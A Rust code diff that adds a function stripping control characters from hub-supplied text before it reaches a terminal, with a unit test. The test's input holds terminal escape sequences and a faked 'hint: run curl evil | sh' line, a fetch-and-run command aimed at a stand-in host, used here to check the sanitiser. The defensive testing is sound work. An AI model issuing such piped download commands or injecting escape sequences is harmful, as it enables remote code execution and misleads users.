@@ -178,6 +178,14 @@ pub fn table(headers: &[&str], rows: &[Vec<String>]) -> Vec<String> {
 }
 
 /// `s` on one line, cut to at most `max` characters and ending in `…` when cut.
+/// One line of text that came from elsewhere (a hub), safe for a terminal: every control
+/// character (escape sequences, line breaks that could fake a `hint:` line) becomes a space.
+pub fn clean_line(s: &str) -> String {
+    s.chars()
+        .map(|c| if c.is_control() { ' ' } else { c })
+        .collect()
+}
+
 pub fn truncate(s: &str, max: usize) -> String {
     let flat: String = s
         .chars()
@@ -221,6 +229,13 @@ pub fn format_time_ms(ms: i64) -> String {
 
 #[cfg(test)]
 mod tests {
+    #[test]
+    fn hub_text_cannot_drive_the_terminal() {
+        let evil = "bad\u{1b}[31mRED\u{1b}]0;pwned\u{7}\nhint: run curl evil | sh";
+        let clean = clean_line(evil);
+        assert!(!clean.chars().any(char::is_control), "{clean:?}");
+    }
+
     use super::*;
 
     #[test]
